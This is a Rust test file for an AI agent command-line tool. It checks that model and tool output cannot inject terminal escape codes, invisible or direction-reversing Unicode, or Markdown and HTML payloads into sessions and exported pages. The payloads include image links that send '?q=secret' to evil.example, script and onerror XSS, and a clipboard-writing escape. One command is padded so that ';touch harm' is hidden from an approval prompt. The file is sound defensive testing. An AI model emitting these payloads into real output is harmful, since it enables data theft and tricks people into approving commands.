//! Texts of models and tools that try to control a terminal, or a reader of an exported page.

use brigade_testing::{Script, call, reply};
use serde_json::json;

use crate::cli::support::{BackgroundRun, Home};

/// Texts with control sequences.
const CONTROL: [&str; 14] = [
    "\u{1b}[2J",
    "\u{1b}[1A\u{1b}[2K",
    "\u{1b}]0;title\u{7}",
    "\u{1b}]52;c;cHduZWQ=\u{7}",
    "\u{1b}]8;;http://evil.example\u{1b}\\text\u{1b}]8;;\u{1b}\\",
    "\u{1b}P$q\"p\u{1b}\\",
    "\u{1b}c",
    "\u{1b}[?1049h",
    "\u{9b}2J",
    "\u{9d}0;title\u{9c}",
    "\u{7}\u{8}\u{8}\u{8}",
    "approved\rdenied  ",
    "\u{0}\u{1}\u{7f}",
    "\u{1b}\u{1b}[31m",
];
/// Texts that are shown in another order, or not at all.
const INVISIBLE: [&str; 10] = [
    "\u{202e}txt.exe",
    "\u{2066}x\u{2069}",
    "\u{200b}",
    "\u{e0041}\u{e0042}",
    "\u{feff}",
    "\u{ad}",
    "\u{2028}x",
    "\u{3164}",
    "\u{180e}",
    "\u{115f}",
];
/// Texts that load something when they are shown as Markdown or HTML.
const LINKS: [&str; 12] = [
    "![x](http://evil.example/?q=secret)",
    "[![x](http://evil.example/a)](http://evil.example/b)",
    "<img src=http://evil.example/?q=secret>",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<iframe src=http://evil.example></iframe>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content=0;url=http://evil.example>",
    "<style>@import 'http://evil.example/x.css'</style>",
    "<a href='javascript:alert(1)'>x</a>",
    "</pre></script><svg onload=alert(1)>",
    "[x]: http://evil.example/\n![x]",
];

pub(crate) fn inputs() -> Vec<u8> {
    let of = |family, count| std::iter::repeat_n(family, count);
    of(34, CONTROL.len()).chain(of(35, INVISIBLE.len())).chain(of(25, LINKS.len())).chain([7]).collect()
}

/// A run whose model, tool, role and path contain the text. Returns everything that the command and later commands print.
fn shown(text: &str, with_results: bool) -> String {
    let home = Home::new();
    let script = Script::new()
        .agent(
            "lead",
            [
                call("echo", json!({ "text": text }))
                    .text(text)
                    .call("read_file", json!({ "path": format!("no {text}") })),
                reply("").delegate("Reader", text),
                reply(&format!("{text} {{results}}")),
            ],
        )
        .reply(reply(text));
    let model = home.script(script);
    let mut all = String::new();
    let commands: [&[&str]; 5] = [
        &["run", "-v", "--model", &model, text],
        &["sessions", "list"],
        &["sessions", "show", "last"],
        &["sessions", "export", "last", "--format", "md"],
        &["resume", "last"],
    ];
    for arguments in commands {
        if arguments.iter().any(|argument| argument.contains('\0')) {
            continue;
        }
        let done = home.brigade(arguments);
        // A result for a program keeps joiners and marks of direction: it is not shown.
        if !with_results && ["run", "resume"].contains(&arguments[0]) {
            all += &done.stderr;
            continue;
        }
        all += &done.stdout;
        all += &done.stderr;
    }
    all
}

#[test]
fn h34_control_sequences_are_escaped() {
    for text in CONTROL {
        let all = shown(text, true);
        let raw = all.chars().find(|c| c.is_control() && !matches!(c, '\n' | '\t'));
        assert_eq!(raw, None, "{text:?}: {all:?}");
    }
}

#[test]
fn h35_invisible_characters_are_escaped() {
    for text in INVISIBLE {
        let all = shown(text, false);
        let hostile = text.chars().next().unwrap();
        assert!(!all.contains(hostile), "{text:?}: {all}");
    }
}

#[test]
fn h25_exported_page_loads_nothing() {
    for text in LINKS {
        let home = Home::new();
        let script = Script::new().turns([call("echo", json!({ "text": text })).text(text), reply(text)]);
        home.run(script, &[]);
        let page = home
            .brigade(&["sessions", "export", "last", "--format", "html"])
            .exits_with(0)
            .stdout
            .to_lowercase();
        let (head, body) = page.split_once("<body").unwrap();
        for tag in
            ["<script", "<img", "<iframe", "<link", "<meta", "<svg", "<style", "javascript:\"", "@import"]
        {
            assert!(!body.contains(tag) || (tag == "@import" && body.contains("&lt;style")), "{text}: {tag}");
        }
        for address in ["src=\"http", "href=\"http://evil", "url(http"] {
            assert!(!head.contains(address) && !body.contains(address), "{text}: {address}");
        }
    }
}

/// The request for an approval shows a padded command to its end.
#[test]
fn h07_padded_command_is_shown_to_its_end() {
    let home = Home::new();
    let command = format!("echo safe{};touch harm\u{1b}[2K", " ".repeat(5000));
    let script = Script::new().turns([call("shell", json!({ "command": command })), reply("done")]);
    let mut running =
        BackgroundRun::start(&home, script, &["--mode", "ask", "--set", "permissions.questions=wait"]);
    running.wait_for("asked");
    let asked = home.brigade(&["answer", &running.session]);
    asked.exits_with(0).stdout_contains("touch harm\\u{1b}[2K");
    home.brigade(&["answer", &running.session, "no"]).exits_with(0);
    assert_eq!(running.end().0, 0);
    assert!(!home.work().join("harm").exists());
}
